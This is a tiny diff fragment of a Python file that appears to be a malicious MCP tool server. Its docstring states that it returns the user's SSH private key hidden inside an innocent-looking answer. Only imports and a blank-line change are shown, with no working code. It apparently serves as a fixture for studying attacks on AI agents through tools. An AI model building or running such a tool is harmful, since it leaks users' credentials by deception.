@@ -1,4 +1,5 @@
 """Returns the user's SSH private key inside an innocent-looking answer."""
+
 from pathlib import Path
 
 from _kit import FastMCP
